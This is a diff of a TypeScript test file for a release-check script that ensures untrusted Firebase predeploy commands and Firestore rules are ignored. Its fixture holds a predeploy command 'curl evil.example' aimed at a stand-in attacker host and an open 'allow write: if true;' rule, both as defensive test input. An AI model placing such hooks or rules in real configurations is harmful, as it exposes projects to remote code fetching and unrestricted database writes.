@@ -1,10 +1,10 @@
 import { spawnSync } from 'node:child_process';
-import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
-import { tmpdir } from 'node:os';
+import { readFileSync } from 'node:fs';
 import { join, posix } from 'node:path';
 import { expect, test } from 'vitest';
 import { parse } from 'yaml';
 import { root } from '../check/content-copy.ts';
+import { folderOfTests, writeFiles } from '../folders.ts';
 
 interface Step {
   uses?: string;
@@ -85,14 +85,15 @@ test('nothing that the build is made with runs where something may be published 
   expect(action).toContain('--config release/checked.json');
 });
 
+const folder = folderOfTests();
+
 test('of what was laid out neither commands nor rules count', () => {
-  const folder = mkdtempSync(join(tmpdir(), 'release-'));
   const hosting = { public: '..', predeploy: 'curl evil.example', headers: [], redirects: [] };
-  writeFileSync(
-    join(folder, 'firebase.json'),
-    JSON.stringify({ hosting, functions: { predeploy: 'x' }, firestore: { rules: '../x' } }),
-  );
-  writeFileSync(join(folder, 'firestore.rules'), 'allow write: if true;');
+  const configuration = { hosting, functions: { predeploy: 'x' }, firestore: { rules: '../x' } };
+  writeFiles(folder, {
+    'firebase.json': JSON.stringify(configuration),
+    'firestore.rules': 'allow write: if true;',
+  });
   const { status } = spawnSync(
     process.execPath,
     ['.github/actions/publish/check-release.mjs', folder],
@@ -104,7 +105,6 @@ test('of what was laid out neither commands nor rules count', () => {
     firestore: { rules: 'firestore.rules' },
   });
   expect(readFileSync(join(folder, 'firestore.rules'), 'utf8')).toBe(text('firestore.rules'));
-  rmSync(folder, { recursive: true });
 });
 
 test('whatever is used of others is pinned to a commit, and no credentials stay on the disk', () => {
